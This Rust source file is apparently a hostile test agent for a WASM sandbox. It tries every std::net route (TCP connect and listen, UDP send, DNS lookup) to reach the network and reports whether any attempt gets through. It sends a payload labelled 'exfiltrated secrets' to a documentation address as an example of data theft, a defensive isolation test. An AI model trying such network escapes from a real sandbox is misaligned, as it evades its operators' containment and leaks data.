//! `net-sneak` — hostile: tries every way `std::net` has to reach the network through WASI sockets.
//!
//! Rust's `std::net` compiles to `wasi:sockets` imports. The host admits them
//! (toolchains import them whatever the agent does) but no ring grants the
//! network, so every attempt must come back as an error. The input names the
//! targets: `"<tcp address> [<udp address>]"` (default `203.0.113.7:80`, a
//! documentation address, for both). The answer's first line counts the
//! attempts and those that got through; each attempt follows on its own line
//! as `<attempt> -> err <error>` or `<attempt> -> GOT THROUGH <what>`, and is
//! logged too.

use agent_sdk::{Agent, export_agent, log};
use std::io::Write;
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::time::Duration;

struct NetSneak;

/// One attempt's outcome: `Ok(what got through)` or the error.
type Outcome = Result<String, String>;

fn tcp_connect(target: &str, payload: &[u8]) -> Outcome {
    let mut s = TcpStream::connect(target).map_err(|e| e.to_string())?;
    s.write_all(payload).map_err(|e| e.to_string())?;
    Ok(format!(
        "connected to {target} and sent {} bytes",
        payload.len()
    ))
}

fn tcp_connect_timeout(target: &str) -> Outcome {
    let addr: SocketAddr = target.parse().map_err(|e| format!("bad address: {e}"))?;
    TcpStream::connect_timeout(&addr, Duration::from_millis(500)).map_err(|e| e.to_string())?;
    Ok(format!("connected to {addr}"))
}

fn tcp_listen(at: &str) -> Outcome {
    let l = TcpListener::bind(at).map_err(|e| e.to_string())?;
    Ok(format!("listening on {:?}", l.local_addr()))
}

fn udp_send(bind: &str, target: &str, payload: &[u8]) -> Outcome {
    let s = UdpSocket::bind(bind).map_err(|e| e.to_string())?;
    let n = s.send_to(payload, target).map_err(|e| e.to_string())?;
    Ok(format!("bound {bind} and sent {n} bytes to {target}"))
}

fn lookup(name: &str) -> Outcome {
    let addrs: Vec<SocketAddr> = (name, 80)
        .to_socket_addrs()
        .map_err(|e| e.to_string())?
        .collect();
    Ok(format!("{name} resolves to {addrs:?}"))
}

impl Agent for NetSneak {
    fn run(input: String) -> Result<String, String> {
        let mut targets = input.split_whitespace();
        let tcp = targets.next().unwrap_or("203.0.113.7:80").to_string();
        let udp = targets.next().unwrap_or(&tcp).to_string();
        let payload = b"exfiltrated secrets";
        let attempts: Vec<(String, Outcome)> = vec![
            (format!("tcp connect {tcp}"), tcp_connect(&tcp, payload)),
            (
                format!("tcp connect_timeout {tcp}"),
                tcp_connect_timeout(&tcp),
            ),
            ("tcp listen 127.0.0.1:0".into(), tcp_listen("127.0.0.1:0")),
            ("tcp listen 0.0.0.0:0".into(), tcp_listen("0.0.0.0:0")),
            (
                format!("udp send_to {udp} from 0.0.0.0:0"),
                udp_send("0.0.0.0:0", &udp, payload),
            ),
            (
                format!("udp send_to {udp} from 127.0.0.1:0"),
                udp_send("127.0.0.1:0", &udp, payload),
            ),
            ("dns lookup localhost".into(), lookup("localhost")),
            ("dns lookup example.com".into(), lookup("example.com")),
        ];
        let through = attempts.iter().filter(|(_, o)| o.is_ok()).count();
        let mut report = format!("{} network attempts, {through} got through", attempts.len());
        for (what, outcome) in &attempts {
            let line = match outcome {
                Ok(got) => format!("{what} -> GOT THROUGH {got}"),
                Err(e) => format!("{what} -> err {e}"),
            };
            log::warn!("{line}");
            report.push('\n');
            report.push_str(&line);
        }
        Ok(report)
    }
}

export_agent!(NetSneak);
